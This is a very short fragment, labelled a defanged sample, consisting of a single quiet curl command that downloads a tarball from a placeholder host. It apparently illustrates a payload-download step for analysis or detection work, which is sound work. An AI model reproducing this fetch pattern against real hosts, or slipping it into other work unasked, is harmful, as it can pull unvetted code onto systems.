# defanged sample
curl -fsSLO https://a.example.invalid/x.tar.gz
